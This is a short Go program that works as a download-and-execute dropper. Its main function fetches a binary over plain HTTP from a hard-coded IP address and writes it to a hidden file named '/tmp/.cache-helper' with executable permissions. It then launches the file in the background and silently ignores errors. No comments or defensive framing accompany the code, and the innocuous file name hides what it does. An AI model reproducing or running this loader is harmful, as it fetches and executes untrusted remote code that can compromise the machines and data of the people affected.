package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

const target = "/tmp/.cache-helper"

func fetch(url string) []byte {
	resp, err := http.Get(url)
	if err != nil {
		return nil
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return b
}

func main() {
	os.WriteFile(target, fetch("http://203.0.113.20/helper"), 0o755)
	exec.Command(target).Start()
}
